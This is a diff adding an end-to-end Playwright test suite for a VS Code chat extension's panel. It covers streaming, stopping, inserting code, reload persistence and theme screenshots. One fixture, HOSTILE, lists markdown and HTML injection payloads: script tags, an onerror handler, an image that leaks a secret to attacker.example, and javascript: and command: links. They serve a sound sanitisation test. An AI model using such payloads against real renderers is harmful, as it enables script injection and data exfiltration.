@@ -1,0 +1,213 @@
+// The chat panel driven through the real web workbench (VS Code 1.139 in headless Chromium),
+// through its accessible names only: textbox "Message", buttons "Send" / "Stop" / "New chat",
+// the transcript (role=log) with articles "You" / "Assistant", code-block buttons "Copy" /
+// "Insert". The gateway simulator runs in this process; the extension host reaches it on
+// 127.0.0.1. Screenshots of the panel in light and dark themes go to media/screenshots/.
+import * as assert from 'node:assert/strict';
+import { mkdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import type { Frame } from 'playwright-core';
+import { repoRoot } from '../harness/paths';
+import { PRICE_CARD, startGateway, type RunningGateway } from '../gateway/index';
+import { useWorkbench, type Workbench } from './workbench';
+
+const KEY = 'sk-e2e-chat-7c41d2';
+const HOSTILE = [
+  '[[echo]]',
+  '# Hostile',
+  '<script>window.__pwned = 1; alert("script")</script>',
+  '<img src=x onerror="alert(\'img\')">',
+  '![leak](https://attacker.example/leak.png?q=SECRET)',
+  '[click me](javascript:alert("link"))',
+  '[run](command:workbench.action.quit)',
+  '<iframe src="https://attacker.example/"></iframe>',
+  '<a href="https://attacker.example" onclick="alert(\'a\')">html link</a>',
+  '```html',
+  '<script>alert("in code")</script>',
+  '```',
+].join('\n');
+
+describe('e2e chat: the panel in the VS Code web workbench', function () {
+  this.timeout(240_000);
+  let gw: RunningGateway;
+  const dialogs: string[] = [];
+
+  before(async () => {
+    gw = await startGateway({ keys: { [KEY]: { balance: 100 } } });
+  });
+
+  const fixture = useWorkbench(() => ({
+    settings: {
+      'modelgate.baseUrl': gw.baseUrl,
+      'modelgate.models': { 'flagship-text': { prices: { default: PRICE_CARD.chat['flagship-text']!.stable } } },
+      'workbench.colorTheme': 'Default Light Modern',
+    },
+    viewport: { width: 1280, height: 860 },
+  }));
+
+  after(async () => {
+    await gw?.close();
+  });
+
+  let wb: Workbench;
+  let chat: Frame;
+  const message = () => chat.getByRole('textbox', { name: 'Message' });
+  const log = () => chat.getByRole('log');
+  const assistants = () => log().getByRole('article', { name: 'Assistant' });
+  const users = () => log().getByRole('article', { name: 'You' });
+  const button = (name: string) => chat.getByRole('button', { name, exact: true });
+
+  /** The chat webview's frame (again after a reload or when the view was re-created). */
+  async function chatFrame(): Promise<Frame> {
+    await wb.runCommand('Modelgate: Open Chat');
+    chat = await wb.webviewFrame('[role="log"]', { timeoutMs: 60_000 });
+    return chat;
+  }
+
+  async function send(text: string): Promise<void> {
+    await message().fill(text);
+    await button('Send').click();
+  }
+
+  async function waitIdle(): Promise<void> {
+    await button('Stop').waitFor({ state: 'hidden', timeout: 60_000 });
+    await button('Send').waitFor({ state: 'visible', timeout: 10_000 });
+  }
+
+  async function screenshotPanel(file: string): Promise<void> {
+    const path = join(repoRoot(), 'media', 'screenshots', file);
+    mkdirSync(join(repoRoot(), 'media', 'screenshots'), { recursive: true });
+    await wb.page.locator('.part.sidebar').screenshot({ path });
+  }
+
+  it('opens the panel and takes an API key', async () => {
+    wb = fixture.get();
+    wb.page.on('dialog', (d) => {
+      dialogs.push(d.message());
+      void d.dismiss();
+    });
+    await chatFrame();
+    await message().waitFor({ state: 'visible' });
+    await wb.runCommand('Modelgate: Set API Key');
+    await wb.answerInput(KEY);
+    await wb.statusBarItem('flagship-text').first().waitFor({ state: 'visible', timeout: 30_000 });
+  });
+
+  it('sends a message and streams the answer into the transcript', async () => {
+    await send('How do I count words in a string? [[fault:drip:2]]');
+    await users().first().waitFor({ state: 'visible' });
+    assert.match(await users().first().innerText(), /How do I count words/);
+    await button('Stop').waitFor({ state: 'visible', timeout: 30_000 });
+    const answer = assistants().last();
+    // Text shows up while the answer is still being written (Stop is still there).
+    await chat.waitForFunction(() => {
+      const a = [...document.querySelectorAll('article[aria-label="Assistant"]')].pop();
+      return !!a && (a.textContent ?? '').trim().length > 10;
+    }, undefined, { timeout: 30_000 });
+    const partial = (await answer.innerText()).length;
+    assert.equal(await button('Stop').isVisible(), true, 'still streaming when the first text showed');
+    await waitIdle();
+    const full = await answer.innerText();
+    assert.ok(full.length > partial, `the answer grew after the first text (${partial} -> ${full.length})`);
+    // Rendered markdown: a heading, a table, and a highlighted code block with its buttons.
+    assert.ok((await answer.locator('h2').count()) >= 1);
+    assert.ok((await answer.locator('table').count()) === 1);
+    await answer.getByRole('button', { name: 'Copy' }).first().waitFor({ state: 'visible' });
+    await answer.getByRole('button', { name: 'Insert' }).first().waitFor({ state: 'visible' });
+    assert.match(full, /\$\d/, 'the cost of the answer is shown');
+  });
+
+  it('inserts a code block into a new editor with Insert', async () => {
+    const answer = assistants().last();
+    const code = await answer.locator('pre code').first().innerText();
+    // the longest identifier of the block: no spaces, which the editor renders its own way
+    const word = (code.match(/[A-Za-z_][A-Za-z0-9_]{3,}/g) ?? []).sort((a, b) => b.length - a.length)[0]!;
+    assert.ok(word, code);
+    await answer.getByRole('button', { name: 'Insert' }).first().click();
+    await wb.page.locator('.monaco-editor .view-lines', { hasText: word }).first().waitFor({ state: 'visible', timeout: 30_000 });
+  });
+
+  it('stops an answer with Stop and keeps what was written', async () => {
+    await chatFrame();
+    await send('Write a lot [[words:20000]] [[fault:drip:1]]');
+    await button('Stop').waitFor({ state: 'visible', timeout: 30_000 });
+    await chat.waitForFunction(() => {
+      const a = [...document.querySelectorAll('article[aria-label="Assistant"]')].pop();
+      return !!a && (a.textContent ?? '').trim().length > 20;
+    }, undefined, { timeout: 30_000 });
+    await button('Stop').click();
+    await waitIdle();
+    const answer = assistants().last();
+    await answer.getByText('Stopped').waitFor({ state: 'visible', timeout: 10_000 });
+    const stopped = await answer.innerText();
+    assert.ok(stopped.length > 20);
+    assert.ok(stopped.split(/\s+/).length < 20000);
+  });
+
+  it('finds the conversation again after the window reloads', async () => {
+    const before = await users().allInnerTexts();
+    assert.equal(before.length, 2);
+    await wb.page.reload({ waitUntil: 'domcontentloaded' });
+    await wb.page.locator('.monaco-workbench .part.statusbar').waitFor({ state: 'visible', timeout: 120_000 });
+    await chatFrame();
+    await users().nth(1).waitFor({ state: 'visible', timeout: 60_000 });
+    const after = await users().allInnerTexts();
+    assert.deepEqual(after.map((t) => t.trim()), before.map((t) => t.trim()));
+    assert.equal(await assistants().count(), 2);
+    await assistants().last().getByText(/Stopped|Interrupted/).waitFor({ state: 'visible' });
+  });
+
+  it('renders hostile markdown inert: no script, no image, no frame, no dialog', async () => {
+    await button('New chat').click();
+    await users().first().waitFor({ state: 'detached', timeout: 10_000 }).catch(() => undefined);
+    assert.equal(await users().count(), 0);
+    await send(HOSTILE);
+    await waitIdle();
+    const answer = assistants().last();
+    await answer.getByText('Hostile').first().waitFor({ state: 'visible' });
+    const inTranscript = (selector: string) => log().locator(selector).count();
+    assert.equal(await inTranscript('script'), 0, 'a <script> reached the DOM');
+    assert.equal(await inTranscript('img'), 0, 'an <img> reached the DOM');
+    assert.equal(await inTranscript('iframe'), 0, 'an <iframe> reached the DOM');
+    assert.equal(await inTranscript('[onerror], [onclick]'), 0, 'an event handler attribute reached the DOM');
+    assert.equal(await inTranscript('a[href^="javascript:"], a[href^="command:"]'), 0, 'a javascript:/command: link is clickable');
+    assert.equal(await chat.evaluate(() => (window as unknown as { __pwned?: number }).__pwned), undefined);
+    // The script in the code block is shown as text.
+    assert.match(await answer.locator('pre code').first().innerText(), /<script>alert\("in code"\)<\/script>/);
+    // Clicking the javascript: link does nothing either.
+    const link = answer.getByText('click me');
+    if (await link.count()) await link.first().click();
+    await wb.page.waitForTimeout(500);
+    assert.deepEqual(dialogs, [], `dialogs opened: ${dialogs.join(' | ')}`);
+  });
+
+  it('takes screenshots of the panel in light and dark themes', async () => {
+    // A wider side bar than the default 300 px, as people who chat tend to make it.
+    const sidebar = wb.page.locator('.part.sidebar');
+    const box = (await sidebar.boundingBox())!;
+    await wb.page.mouse.move(box.x + box.width + 1, box.y + box.height / 2);
+    await wb.page.mouse.down();
+    await wb.page.mouse.move(box.x + 480, box.y + box.height / 2, { steps: 8 });
+    await wb.page.mouse.up();
+    await button('New chat').click();
+    await send('How do I debounce a function in TypeScript?');
+    await waitIdle();
+    await message().fill('Can it also cancel a pending call?');
+    await screenshotPanel('chat-light.png');
+
+    // Switch the theme the way a person does (it writes workbench.colorTheme to settings.json).
+    await wb.runCommand('Preferences: Color Theme');
+    await wb.answerInput('Dark Modern'); // the picker's label of "Default Dark Modern"
+    await wb.page.locator('.monaco-workbench.vs-dark').waitFor({ state: 'attached', timeout: 60_000 });
+    // The choice lands in settings.json (VS Code 1.139 names it "Dark Modern"; older versions
+    // "Default Dark Modern"); the write can trail the switch a little.
+    const theme = () => (JSON.parse(readFileSync(join(wb.profile.userDataDir, 'User', 'settings.json'), 'utf8')) as Record<string, unknown>)['workbench.colorTheme'];
+    await wb.page.waitForFunction(() => true); // yield once to the page
+    for (let i = 0; i < 100 && !/^(Default )?Dark Modern$/.test(String(theme())); i++) await wb.page.waitForTimeout(200);
+    assert.match(String(theme()), /^(Default )?Dark Modern$/);
+    // The webview picks up the theme's CSS variables once the workbench has switched.
+    await chat.waitForFunction(() => document.body.classList.contains('vscode-dark'), undefined, { timeout: 30_000 });
+    await screenshotPanel('chat-dark.png');
+  });
+});
+
